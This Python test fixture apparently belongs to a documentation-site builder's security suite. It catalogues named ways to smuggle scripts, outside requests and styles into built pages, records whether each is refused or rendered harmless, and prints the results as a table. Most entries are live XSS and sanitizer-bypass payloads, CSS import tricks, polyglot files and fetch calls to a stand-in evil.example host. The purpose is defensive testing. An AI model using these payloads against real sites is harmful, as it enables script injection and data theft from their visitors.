"""Ways to bring a script, a request elsewhere or a style with an address into a site, and what becomes of each.

`python -m tests.hostile.ways` prints them as docs/reliability.md holds them; a test asserts that it does.
"""

import gzip
from collections.abc import Iterator
from typing import NamedTuple

from tests.hostile.payloads import EVIL, RUN

GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
ASK = f"fetch('{EVIL}/asked')"
DRAWN = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN};{ASK}</script><image href='{EVIL}/d.png'/></svg>"
PACKED = "data:image/svg+xml," + DRAWN.replace("<", "%3C").replace(">", "%3E").replace("'", "%27").replace(" ", "%20")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


STYLED = f'@import "{EVIL}/x.css";'
PAGE = f"<!doctype html><html><head></head><body><script>{RUN}</script></body></html>"
BLOCK = '<div class="tracker-block" data-name="latest" data-options="" data-line="1"></div>'
DOCTYPE = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd">'
FILTER = "<filter id='f'><feGaussianBlur stdDeviation='2'><animate attributeName='stdDeviation' to='3' dur='1s'/></feGaussianBlur></filter>"
RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"


class Way(NamedTuple):
    name: str
    """As the table has it."""
    content: str | bytes
    path: str = ""
    """Of a file in docs/; where there is none, the content stands on a page of its own."""


LINES = (
    Way("a script", f"<script>{RUN}</script>"),
    Way("`type=module`", f'<script type="module">{RUN}</script>'),
    Way("`type=text/javascript`", f'<script type="text/javascript">{RUN}</script>'),
    Way("a class that says json", f'<script class="json">{RUN}</script>'),
    Way("an id that says application/json", f'<script id="application/json">{RUN}</script>'),
    Way("a type that only begins as data", f'<script type="application/json5;text/javascript">{RUN}</script>'),
    Way("two types, of which the last is data", f'<script type="text/javascript" type="application/json">{RUN}</script>'),
    Way("`language=json`", f'<script language="json">{RUN}</script>'),
    Way("an empty type", f'<script type="">{RUN}</script>'),
    Way("data with markup in them", f'<script type="application/json"><!--<script></script><img src=x onerror={RUN}>-->'),
    Way("rules of speculation", f'<script type="speculationrules">{{"prefetch":[{{"urls":["{EVIL}/"]}}]}}</script>'),
    Way("a map of imports", f'<script type="importmap">{{"imports":{{"x":"{EVIL}/x.js"}}}}</script>'),
    Way("a script of the theme's with one letter more", "<script>var el=document.querySelector('x');</script>"),
    Way("a file elsewhere as a script", f'<script src="{EVIL}/x.js"></script>'),
    Way("the same, which leads to ours once it is resolved", f'<script src="{EVIL}/../../../assets/tracker/tracker.js"></script>'),
    Way("the same with backslashes for slashes", r'<script src="\\evil.example/../../assets/tracker/tracker.js"></script>'),
    Way("the same without a scheme, up and down", '<script src="//evil.example/../../../assets/tracker/tracker.js"></script>'),
    Way("a script in an address that leads to ours", f'<script src="data:text/javascript,{RUN}//x/../../../../assets/tracker/tracker.js"></script>'),
    Way("a way up that is encoded", '<script src="../assets/x/%2e%2e/%2e%2e/../assets/tracker/tracker.js"></script>'),
    Way("a text file of docs/ as a script", '<script src="../notes.txt"></script>'),
    Way("a download of the site as a script", '<script src="../data/incidents.csv"></script>'),
    Way("data that are fetched", '<script type="application/json" src="../notes.txt"></script>'),
    Way("the theme's settings, written first", f'<script id="__config" type="application/json">{{"base":"{EVIL}"}}</script>'),
    Way("our charts with another library", f'<div class="tk-plot" data-library="{EVIL}/x.js" data-figure="x"></div>'),
    Way("our charts with a file of docs/", '<div class="tk-plot" data-library="../notes.txt" data-figure="x"></div>'),
    Way("our search with another root", f'<div data-search data-root="{EVIL}/"></div>'),
    Way("the theme's diagrams, whose library is elsewhere", '<pre class="mermaid"><code>graph</code></pre>'),
    Way("the theme's stars of a repository", '<a data-md-component="source" href="https://github.com/x/y">x</a>'),
    Way("a title that a theme shows as markup", f'<b title="&lt;img src=x onerror={RUN}&gt;">x</b>'),
    Way("a handler", f'<img src="{GIF}" onload="{RUN}">'),
    Way("a handler in capitals, without quotation marks", f"<div><IMG SRC=x ONERROR={RUN}></div>"),
    Way("a handler after a slash", f"<img/src=x/onerror={RUN}>"),
    Way("a handler that an extension writes", f'[x](about.md){{: onmouseover="{RUN}" }}'),
    Way("a handler of a custom element", f"<div><x-y onfocus={RUN} autofocus tabindex=1>x</x-y></div>"),
    Way("an attribute whose quotation mark is never closed", f'<div><p title="x><img src=x onerror={RUN}></div>'),
    Way("markup in an attribute", f"<p title='<img src=x onerror={RUN}>'>x</p>"),
    Way("a comment that ends early", f"<!--> <img src=x onerror={RUN}> -->"),
    Way("a comment that ends with an exclamation mark", f"<div><!-- --!><img src=x onerror={RUN}> --></div>"),
    Way("a comment within a comment", f"<!-- <!-- --><img src=x onerror={RUN}>"),
    Way("a CDATA section", f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>"),
    Way("an instruction", f"<?xml <img src=x onerror={RUN}> ?>"),
    Way("a page in a page's text", f"<plaintext><img src=x onerror={RUN}>"),
    Way("`<noscript>`", f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>'),
    Way("`<textarea>` in a drawing", f"<div><svg><textarea><img src=x onerror={RUN}></textarea></svg></div>"),
    Way("`<title>` in a drawing", f"<div><svg><title><img src=x onerror={RUN}></title></svg></div>"),
    Way("`<style>` in a drawing", f"<div><svg><style><img src=x onerror={RUN}></style></svg></div>"),
    Way("`<style>` in a list of choices", f"<select><style></select><img src=x onerror={RUN}></style></select>"),
    Way("`<desc>`, in which a page begins", f"<svg><desc><style><img src=x onerror={RUN}></style></desc></svg>"),
    Way("`<foreignObject>`", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"),
    Way("a formula with a link", f'<math><mtext href="javascript:{RUN}">x</mtext></math>'),
    Way("`<template shadowrootmode>`", f'<div><template shadowrootmode="open"><img src="{EVIL}/t.gif"></template></div>'),
    Way("a script in a drawing", f"<svg><script>{RUN}</script></svg>"),
    Way("a script in a drawing, by address", f'<svg><script href="{EVIL}/x.js"></script></svg>'),
    Way("a drawing that sets an address", f'<svg><a><set attributeName="href" to="javascript:{RUN}"/>x</a></svg>'),
    Way("an address that is a script", f'<a href="javascript:{RUN}">x</a>'),
    Way("the same with a tab as an entity", f'<a href="java&#x09;script:{RUN}">x</a>'),
    Way("the same with a colon as an entity", f'<a href="javascript&colon;{RUN}">x</a>'),
    Way("the same in a drawing", f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>'),
    Way("the same as a Markdown link", f"[x](javascript:{RUN})"),
    Way("an address that is a page", "<a href='data:text/html,x'>x</a>"),
    Way("a form that leads elsewhere", f'<form action="{EVIL}/"><button>x</button></form>'),
    Way("the same with backslashes", r'<form action="\\evil.example/x"><button>x</button></form>'),
    Way("`formaction`", f'<form><button formaction="{EVIL}/">x</button></form>'),
    Way("`ping`", f'<a href="../" ping="{EVIL}/p">x</a>'),
    Way("`attributionsrc`", f'<a href="../" attributionsrc="{EVIL}/a">x</a>'),
    Way("`<base>`", f'<base href="{EVIL}/">'),
    Way("a page that leads on", f'<meta http-equiv="refresh" content="0; url={EVIL}/">'),
    Way("the same, spelt otherwise", f"<meta http-equiv=\"Refresh\" content=\"0,URL='{EVIL}/'\">"),
    Way("another way to say where a reader comes from", '<meta name="referrer" content="unsafe-url">'),
    Way("another set of characters", '<meta charset="iso-2022-jp">'),
    *(
        Way(f"`<link rel={rel}>`", f'<link rel="{rel}" href="{EVIL}/x" as="image">')
        for rel in (
            "stylesheet", "preload", "prefetch", "modulepreload", "icon", "manifest", "dns-prefetch", "preconnect", "import",
            "prerender", "alternate", "canonical stylesheet", "next",
        )
    ),
    Way("a text file of docs/ as a style", '<link rel="stylesheet" href="../notes.txt">'),
    Way("the same with a style's name after a question mark", '<link rel="stylesheet" href="../notes.txt?x.css">'),
    Way("the same with a style's name after a hash", '<link rel="stylesheet" href="../notes.txt#x.css">'),
    Way("a block in a value of a tag", f"<p title='{BLOCK}'>x</p>"),
    Way("a block in a comment", f"<!-- {BLOCK} -->"),
    Way("a comment that the header would end", "<!-- <div>tracker-header</div> -->"),
    Way("a comment that the footer would end", "<!-- <div>tracker-footer</div> -->"),
    Way("a picture elsewhere", f'<img src="{EVIL}/t.gif">'),
    Way("the same without a scheme", '<img src="//evil.example/t.gif">'),
    Way("the same with a tab in it", '<img src="/&#9;/evil.example/t.gif">'),
    Way("two addresses, of which the last is our own", f'<img src="{EVIL}/t.gif" src="x.png">'),
    Way("`srcset`", f'<img srcset="{EVIL}/t.gif 1x" alt="">'),
    Way("`srcset`, as the second choice", f'<img srcset="x.png 1x,{EVIL}/t.gif 2x" alt="">'),
    Way("`imagesrcset`", f'<link rel="icon" href="x.png" imagesrcset="{EVIL}/t.gif 1x">'),
    Way("`<source>`", f'<picture><source srcset="{EVIL}/t.gif"><img src="x.png" alt=""></picture>'),
    Way("`<input type=image>`", f'<input type="image" src="{EVIL}/t.gif">'),
    Way("`poster`", f'<video poster="{EVIL}/t.gif"></video>'),
    Way("`<audio>`", f'<audio src="{EVIL}/t.mp3" autoplay></audio>'),
    Way("`<track>`", f'<video src="x.mp4"><track default src="{EVIL}/t.vtt"></video>'),
    Way("`background`", f'<table background="{EVIL}/t.gif"><tr><td>x</td></tr></table>'),
    Way("`<image>`, which browsers take for `<img>`", f'<image src="{EVIL}/t.gif">'),
    Way("`<iframe srcdoc>`", f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>"),
    Way("`<object data>`", f'<object data="{EVIL}/x"></object>'),
    Way("`<embed>`", f'<embed src="{EVIL}/x">'),
    Way("`<portal>`", f'<portal src="{EVIL}/"></portal>'),
    Way("`<image>` in a drawing", f'<svg><image href="{EVIL}/t.png"/></svg>'),
    Way("`<feImage>`", f'<svg><filter id="f"><feImage href="{EVIL}/t.png"/></filter></svg>'),
    Way("`data:` in `<use>`", f'<svg><use href="{PACKED}#a"/></svg>'),
    Way("`<use>` elsewhere", f'<svg><use xlink:href="{EVIL}/x.svg#a"/></svg>'),
    *(
        Way(f"`{name}` of a drawing", f'<svg><rect width="9" height="9" {name}="url({EVIL}/x.svg#a)"/></svg>')
        for name in ("fill", "filter", "mask", "clip-path", "marker-end", "cursor")
    ),
    Way("an address in a `style`", f'<p style="background:url({EVIL}/t.gif)">x</p>'),
    Way("the same with an escape", rf'<p style="background:u\72l({EVIL}/t.gif)">x</p>'),
    Way("the same with an entity", f'<p style="background:u&#114;l({EVIL}/t.gif)">x</p>'),
    Way("the same with white space", f'<p style="background:URL( &quot;{EVIL}/t.gif&quot; )">x</p>'),
    Way("the same without a scheme", '<p style="background:url(//evil.example/t.gif)">x</p>'),
    Way("`image-set()`", f"<p style=\"background:image-set('{EVIL}/t.gif' 1x)\">x</p>"),
    Way("`-webkit-image-set()`", f"<p style=\"background:-webkit-image-set('{EVIL}/t.gif' 1x)\">x</p>"),
    Way("`src()`", f"<p style=\"--a:'{EVIL}/t.gif';background:src(var(--a))\">x</p>"),
    Way("an address put together from attributes", f'<p data-a="{EVIL}/t.gif" style="background:url(attr(data-a))">x</p>'),
    Way("`@import`", f"<style>@import '{EVIL}/x.css';</style>"),
    Way("`@import` in capitals, without a space", f'<style>@IMPORT"{EVIL}/x.css";</style>'),
    Way("`@import` with an escape", rf"<style>@\69mport '{EVIL}/x.css';</style>"),
    Way("`@import` behind a comment", f"<style>/*/**/@import '{EVIL}/x.css';</style>"),
    Way("a font elsewhere", f"<style>@font-face{{font-family:x;src:url({EVIL}/x.woff2)}}p{{font-family:x}}</style>"),
    Way("an entity in a style of a drawing", f"<svg><style>rect{{fill:u&#114;l({EVIL}/x)}}</style></svg>"),
)  # fmt: skip
"""Each on a page of its own, as an author would write it in Markdown."""
FRONT = (
    Way("a script in a page's name, which stands on every page", f'title: "<script>{RUN}</script>"'),
    Way("a page's template that leads on", f"template: redirect.html\nlocation: {EVIL}/"),
    Way("a page's template without a policy", "template: bare.html"),
)
"""Between the lines at the top of a page."""
FILES = (
    Way("a script", RUN, "evil.js"),
    Way("a module", RUN, "evil.mjs"),
    Way("a script where the theme has its own", RUN, "assets/javascripts/evil.min.js"),
    Way("a script where we have ours", RUN, "assets/tracker/evil.js"),
    Way("a worker for every page", RUN, "sw.js"),
    Way("a page that no engine has built", f"<script>{RUN}</script>", "evil.html"),
    Way("the same where nobody looks", f"<script>{RUN}</script>", "deep/404.html"),
    Way("the same with an older suffix", f"<script>{RUN}</script>", "evil.htm"),
    Way("XHTML", f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>", "evil.xhtml"),
    Way("XML", f"<x><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script></x>", "evil.xml"),
    Way(
        "a map with a page's script",
        f"<kml><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script></kml>",
        "evil.kml",
    ),
    Way("a track with a style elsewhere", f"<?xml-stylesheet href='{EVIL}/x.css'?><gpx/>", "evil.gpx"),
    Way("a page under a name without a suffix", PAGE, "LICENSE"),
    Way("the same after white space and a mark of the byte order", f"\ufeff \n{PAGE}", "README"),
    Way("a page as rows of JSON", PAGE, "evil.ndjson"),
    Way("a page as a map's projection", PAGE, "evil.prj"),
    Way("a page as a table", f"<script>{RUN}</script>", "evil.csv"),
    Way("a page as a picture", f"<html><script>{RUN}</script></html>", "evil.png"),
    Way("a page as subtitles", f"<html><script>{RUN}</script></html>", "evil.vtt"),
    Way("a page as a projection in UTF-16", PAGE.encode("utf-16"), "wide.prj"),
    Way("a page as a packed projection", gzip.compress(PAGE.encode()), "evil.prj.gz"),
    Way("a drawing that is packed already", gzip.compress(DRAWN.encode()), "evil.svg.gz"),
    Way("a drawing under two suffixes", DRAWN, "evil.svg.prj"),
    Way("a style that is packed already", gzip.compress(STYLED.encode()), "evil.css.gz"),
    Way("a program of a server under two suffixes", "<?php ?>", "evil.php.pdf"),
    Way("a page that is packed already", "x", "about/index.html.gz"),
    Way("a page under two suffixes", f"<script>{RUN}</script>", "evil.html.txt"),
    Way("WebAssembly", "\0asm", "evil.wasm"),
    Way("a behaviour", "x", "evil.htc"),
    Way("a web archive", "x", "evil.mhtml"),
    Way("settings of a host", f"/x {EVIL}/x.js 200", "_redirects"),
    Way("another host's settings", '{"routes": []}', "staticwebapp.config.json"),
    Way("data of a chart with a picture elsewhere", "{}", "charts/evil.json"),
    Way("a drawing with a script", f"{SVG}<script>{RUN}</script></svg>", "script.svg"),
    Way("a drawing with a handler", f'{SVG[:-1]} onload="{RUN}"/>', "handler.svg"),
    Way("a drawing in which a page begins", f"{SVG}<foreignObject/></svg>", "foreign.svg"),
    Way(
        "a drawing with a page's script",
        f"{SVG}<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script></svg>",
        "x.svg",
    ),
    Way("a drawing with a style elsewhere", f"<?xml-stylesheet href='{EVIL}/x.css'?>{SVG}</svg>", "sheet.svg"),
    Way("a drawing with entities", f"<!DOCTYPE svg [<!ENTITY x 'y'>]>{SVG}</svg>", "entity.svg"),
    Way("a drawing with a picture elsewhere", f"{SVG}<image xlink:href='{EVIL}/t.png'/></svg>", "image.svg"),
    Way("a drawing with an escape in its style", rf"{SVG}<style>rect{{fill:u\72l({EVIL})}}</style></svg>", "style.svg"),
    Way(
        "a drawing that is set in motion",
        f"{SVG}<animate attributeName='href' to='javascript:{RUN}'/></svg>",
        "moves.svg",
    ),
    *(
        Way(
            f"a drawing whose style goes on behind `{child}`",
            f"{SVG}<style>{child}{STYLED}</style></svg>",
            f"child-{n}.svg",
        )
        for n, child in enumerate(("<title/>", "<g/>", f"<x:x xmlns:x='{RDF}'/>", "<g><style/></g>"))
    ),
    Way(
        "a drawing that names what it changes twice",
        f"{SVG}<a><set attributename='x' attributeName='href' to='javascript:{RUN}'/></a></svg>",
        "twice.svg",
    ),
    Way(
        "a drawing that changes a filter",
        f"{SVG}<rect><set attributeName='filter' to='url({EVIL}/x)'/></rect></svg>",
        "set.svg",
    ),
    Way(
        "a drawing with a filter that asks elsewhere",
        f"{SVG}<filter><feImage href='{EVIL}/x'/></filter></svg>",
        "feimage.svg",
    ),
    Way("a style that asks elsewhere", f"body{{background:url({EVIL}/t.gif)}}", "evil.css"),
    Way("a style that brings another", rf"@\49mport '{EVIL}/x.css';", "import.css"),
    Way("a style that brings a file that is none", '@import "notes.txt";', "none.css"),
    Way(
        "a style with a choice of pictures", f"a{{background:image-set(url('x.png') 1x, '{EVIL}/t.gif' 2x)}}", "set.css"
    ),
    Way(
        "a style with an address in another's quotation marks",
        f"a{{content:'url(\"';b:url({EVIL}/t);c:'\")'}}",
        "marks.css",
    ),
    Way("a style in another set of characters", '@charset "iso-2022-jp";', "charset.css"),
)
"""Each in docs/, beside the pages."""
CUT = (
    Way("a link to a feed in a comment, which is taken out of pages", f"""<!-- x -<link rel="alternate" type="application/atom+xml" href="feed.xml">-><script>{RUN}</script> -->"""),
)  # fmt: skip
"""In a site without an address, which has no feed."""
FOLDED = (
    Way("a switch of colours that begins outside a comment and ends in it", f'<form class="md-header__option"><!-- </form><script>{RUN}</script> --></form>'),
    Way("a map that does", f'<div><svg class="tk-map"><use href="#a"/><!-- </svg><script>{RUN}</script> --></svg></div>'),
    Way("a module in a comment, behind which the comment ends", f'<!-- x -<script type="module"></script>-><script>{RUN}</script> -->'),
    Way("the same with a picture elsewhere", f'<!-- x -<script type="module"></script>-><img src="{EVIL}/t.gif"> -->'),
    Way("a link to the search that begins in a comment", '<a class="tk-icon--search" href="x" title="a"></a> <!-- <a class="tk-icon--search" --><img src="../p.png" alt=">"></a>'),
)  # fmt: skip
"""On pages of which parts are left out in the offline copy."""
THEME = (
    Way("an inline script in a template of the project's own", f"<script>{RUN}</script>"),
    Way("a script elsewhere in one", f'<script src="{EVIL}/theme.js"></script>'),
    Way("a handler in one", f'<p onclick="{RUN}">x</p>'),
)
THEME_FILES = (
    Way("a style that brings another", STYLED, "stylesheets/own.css"),
    Way("a script", RUN, "own.js"),
    Way("a drawing with a script", DRAWN, "own.svg"),
    Way("XHTML", PAGE, "own.xhtml"),
    Way("a page", PAGE, "own.htm"),
    Way("a template of XML with a page's script", f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>", "own.xml"),
    Way("another script under the name of the theme's", RUN, "assets/javascripts/bundle.js"),
    Way("a script where the search has its own", RUN, "fulltext/index.js"),
)  # fmt: skip
"""Each in the folder that `custom_dir` names; the name of the theme's own script is filled in."""
SETTINGS = (
    Way("`extra_javascript` elsewhere", f'extra_javascript: ["{EVIL}/extra.js"]'),
    Way("`extra_javascript` that leads to ours once it is resolved", f'extra_javascript: ["{EVIL}/../../../assets/tracker/tracker.js"]'),
    Way("`extra_javascript` without a scheme", 'extra_javascript: [{path: "//evil.example/extra.js"}]'),
    Way("`extra_css` elsewhere", f'extra_css: ["{EVIL}/extra.css"]'),
    Way("`theme.logo` elsewhere", f"  logo: {EVIL}/logo.png"),
    Way("`theme.favicon` elsewhere", f"  favicon: {EVIL}/icon.png"),
    Way("the theme's letters, which come from Google", "  font: {text: Roboto}"),
    Way("a service that counts readers", "extra: {analytics: {provider: google, property: G-1}}"),
    Way("a picture elsewhere in the notice of copyright", f"copyright: <img src={EVIL}/c.png>"),
)  # fmt: skip
"""Each as a line of mkdocs.yml; with white space before it below `theme:`."""
LINKED = (
    Way("a link to a file of the machine", "../outside.txt", "h.txt"),
    Way("a link to a folder of the machine", "../outside", "d"),
    Way("a page that is one", "../outside.txt", "h.md"),
)
"""Each a link in docs/, to what the content names."""
SERVED = (
    Way("a drawing with a script", DRAWN, "pic.svg"),
    Way("a style that brings another", STYLED, "pic.css"),
    Way("a page with a script", f"<script>{RUN}</script>", "page.md"),
)
"""Each in docs/, asked of `tracker serve`."""
HARMLESS = (
    Way("a script as Markdown code", f"`<script>{RUN}</script>`"),
    Way("a script in a fence", f"```html\n<script>{RUN}</script>\n```"),
    Way("a script written with entities", f"&lt;script&gt;{RUN}&lt;/script&gt;"),
    Way("a script in a comment", f"<!-- <script>{RUN}</script> -->"),
    Way("data", f'<script type="application/json">{{"x": "{EVIL}/x.js", "run": "{RUN}"}}</script>'),
    Way("linked data", f'<script type="application/ld+json">{{"@context": "{EVIL}/"}}</script>'),
    Way("a link elsewhere", f'<a href="{EVIL}/">x</a>'),
    Way("a link elsewhere without a scheme", '<a href="//evil.example/">x</a>'),
    Way("a link that only looks like a script", f'<a href="./javascript:{RUN}">x</a>'),
    Way("where a page belongs", f'<link rel="canonical" href="{EVIL}/">'),
    Way("a picture in the page", f'<img src="{GIF}" alt="">'),
    Way("a drawing with a script as a picture", f'<img src="{PACKED}" alt="">'),
    Way("the same in a drawing", f'<svg width="9" height="9"><image href="{PACKED}" width="9" height="9"/></svg>'),
    Way("the same as the background of a text", f"<p style='background:url(\"{PACKED}\")'>x</p>"),
    Way("an address in a text of a style", f"<style>p::before{{content:'{EVIL}/x.css'}}</style>"),
    Way("a style that a comment takes apart", f'<p style="background:u/**/rl({EVIL}/t.gif)">x</p>'),
    Way("an address for a text of a style", f'<p data-a="{EVIL}/t.gif" style="content:attr(data-a)">x</p>'),
    Way("text in a field", f"<textarea>&lt;/textarea&gt;&lt;img src=x onerror={RUN}&gt;</textarea>"),
    Way("a handler's name without a handler", '<p class="onload" data-onload="1">onload</p>'),
    Way("a quotation", f'<blockquote cite="{EVIL}/">x</blockquote>'),
    Way("a template of the engine's", "{{ 7 * 7 }} {% include 'mkdocs.yml' %}"),
)
OPENED = (
    Way("a text, opened", f"<script>{RUN}</script>", "notes.txt"),
    Way("data, opened", f'{{"x": "<script>{RUN}</script>"}}', "notes.json"),
    Way("a table, opened", f"what\n<script>{RUN}</script>", "notes.csv"),
    Way("subtitles, opened", f"WEBVTT\n\n<script>{RUN}</script>", "notes.vtt"),
    Way("a drawing, opened", f"{SVG}<text>{RUN}</text><a xlink:href='{EVIL}/'><rect/></a></svg>", "notes.svg"),
    Way("a drawing with a document type, opened", f"{DOCTYPE}{SVG}<text>{RUN}</text></svg>", "matplotlib.svg"),
    Way("a drawing with a filter that moves, opened", f"{SVG}{FILTER}</svg>", "filter.svg"),
    Way("a style, opened", f"p::before{{content:'{EVIL}'}}", "notes.css"),
    Way(
        "a map as XML, opened", f"<kml><description>&lt;script&gt;{RUN}&lt;/script&gt;</description></kml>", "notes.kml"
    ),
    Way("a word for another's program, opened", "google-site-verification: google1.html", "google1.html"),
)
RECORD = (
    Way("a script in a title", "title"),
    Way("a handler in a place's name", "place"),
    Way("an address of a source that is a script", "url"),
    Way("a script in a summary", "summary"),
    Way("a picture elsewhere in a body", "body"),
    Way("a handler in a claim", "says"),
)
CACHE = (
    Way("a page of the site before, with as many letters and its time set back", "same size and time"),
    Way("a link to a page elsewhere", "link"),
    Way("a part of the offline copy", "offline part"),
    Way("a part of the downloads", "download part"),
    Way("the search's script", "search script"),
    Way("a page of an incident that is gone since", "gone page"),
    Way("everything unpacked and packed again, a page among it changed", "archive"),
    Way("the same, a part of the offline copy packed anew", "archived part"),
    Way("the same, the list of files written anew with its seals", "forged list"),
    Way("the same, a record written anew", "forged record"),
    Way("the same, the map written anew", "forged map"),
)
OFFLINE = (
    Way("a page that was changed after the build", "page"),
    Way("a drawing that was changed after the build", "drawing"),
)

REFUSED, AGAIN, SHOWN = "refused by name", "made anew", "harmless in Chromium without the policy"
THROUGH = (
    ("a page of docs/", LINES, REFUSED),
    ("the top of a page", FRONT, REFUSED),
    ("a file of docs/", FILES, REFUSED),
    ("a page of docs/, changed by the build", CUT, REFUSED),
    ("a link in docs/", LINKED, REFUSED),
    ("a template of the project's own", THEME, REFUSED),
    ("a file of the project's own theme", THEME_FILES, REFUSED),
    ("mkdocs.yml", SETTINGS, REFUSED),
    ("`tracker serve`", SERVED, REFUSED),
    ("a record", RECORD[:3], REFUSED),
    ("a record", RECORD[3:], SHOWN),
    ("a page of docs/", HARMLESS, SHOWN),
    ("a file of docs/", OPENED, SHOWN),
    ("the cache", CACHE, AGAIN),
    ("the offline copy", OFFLINE, REFUSED),
    ("the offline copy", FOLDED, SHOWN),
)
COUNT = sum(len(ways) for _, ways, _ in THROUGH)
HEAD = "## Ways to bring in a script, a request or a style"


def section() -> Iterator[str]:
    """The lines that docs/reliability.md holds."""
    yield from (
        HEAD,
        "",
        f"{COUNT} ways, each tried by `tests/hostile/test_ways.py` and `test_ways_of_the_cache.py`. *Refused by name*: the build "
        "ends with the file and the line, exit 1, and the old site stands. *Made anew*: the site is byte for byte that of a "
        "clean build. *Harmless*: served without its policy, the page ran no script, and no request left.",
        "",
        "| through | what | what becomes of it |",
        "|---|---|---|",
    )
    for through, ways, outcome in THROUGH:
        yield from (f"| {through} | {way.name} | {outcome} |" for way in ways)


if __name__ == "__main__":
    print("\n".join(section()))
